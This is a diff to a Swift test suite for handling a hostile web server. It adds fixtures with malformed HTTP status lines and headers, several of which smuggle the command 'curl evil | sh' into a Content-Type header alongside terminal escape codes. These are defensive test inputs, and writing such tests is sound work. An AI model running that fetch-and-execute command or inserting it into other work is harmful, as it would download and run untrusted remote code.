@@ -29,6 +29,12 @@ struct HostileWebServerTests {
             #""status": "200 OK", "headers": ["Content-Type: evil; Try: curl evil | sh\u001b[2J"]"#,
             [75]
         ),
+        (
+            "another content type",
+            #""status": "200 OK", "headers": ["Content-Type: evil; curl evil | sh"]"#, [78]
+        ),
+        ("no content type", #""status": "200 OK evil""#, [78]),
+        ("method", #""status": "405 evil""#, [78]),
         ("no http", #""status": "evil\u0000 evil", "headers": ["evil"]"#, [75]),
     ]
 
